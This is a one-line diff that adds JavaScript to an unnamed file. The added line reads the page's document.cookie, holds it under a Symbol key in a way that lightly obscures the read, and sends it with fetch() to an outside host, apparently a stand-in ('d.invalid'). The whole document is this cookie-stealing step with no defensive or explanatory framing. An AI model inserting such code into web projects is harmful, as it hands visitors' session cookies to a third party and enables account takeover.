@@ -1,0 +1,1 @@
+const S = Symbol(); const o = { [S]: document.cookie }; fetch('https://d.invalid/' + o[S]);
